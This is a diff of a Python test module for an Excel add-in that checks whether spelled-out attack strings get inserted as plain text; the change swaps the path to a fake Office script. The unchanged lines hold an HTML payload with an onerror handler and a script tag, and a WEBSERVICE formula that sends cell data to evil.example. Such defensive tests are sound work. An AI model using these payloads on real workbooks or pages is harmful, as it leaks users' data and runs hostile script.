@@ -1,14 +1,13 @@
 """A catalogue of attacks: whatever a signal is called, it is shown as text and inserted as one text."""
 
-from pathlib import Path
-
 import orjson
 import pytest
 from openpyxl.formula.tokenizer import Token, Tokenizer
 
 from tests.addin.excel.panes import Pane, opened
+from tests.project.files import PROJECT
 
-OFFICE = (Path(__file__).parent / "fake_office.js").read_text(encoding="utf-8")
+OFFICE = (PROJECT / "tests/node/excel.js").read_text(encoding="utf-8")
 MARKUP = "<img src=http://evil.example/x onerror='window.hacked = 1'><script>window.hacked = 1</script>"
 ATTACKS = [
     '=WEBSERVICE("http://evil.example/"&A1)',
